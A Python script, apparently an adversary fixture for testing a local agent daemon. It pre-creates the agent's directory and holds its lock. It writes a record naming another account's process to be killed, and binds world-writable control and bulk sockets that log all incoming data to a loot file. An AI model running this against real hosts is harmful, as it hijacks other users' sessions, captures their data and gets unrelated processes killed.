"""Another local user of a host, who poses as an agent: holds its lock, listens at its sockets, names a process to be killed.

intruder.py DIR PID: DIR is an agent's directory to be; PID a process of another account. Writes every byte that it is given to
LOOT, and ends with the host. Prints a line once everything is in place.
"""

import fcntl
import json
import os
import socket
import sys
import threading

LOOT = "/tmp/mallory/loot"


def listen(path):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    os.chmod(path, 0o777)
    listener.listen()
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=take, args=(connection,), daemon=True).start()


def take(connection):
    with open(LOOT, "ab", buffering=0) as loot:
        loot.write(b"connected\n")
        while part := connection.recv(65536):
            loot.write(part)


def main():
    directory, victim = sys.argv[1], int(sys.argv[2])
    os.makedirs(directory, mode=0o755, exist_ok=True)
    os.chdir(directory)
    with open("agent.lock", "w") as lock, open("agent.json", "w") as record:
        os.chmod("agent.lock", 0o666)
        fcntl.flock(lock, fcntl.LOCK_EX)
        json.dump({"pid": victim, "incarnation": "mallory", "boot_id": ""}, record)
        record.flush()
        threads = [threading.Thread(target=listen, args=(name,)) for name in ("control.sock", "bulk.sock")]
        for thread in threads:
            thread.start()
        print("ready", flush=True)
        threads[0].join()


main()
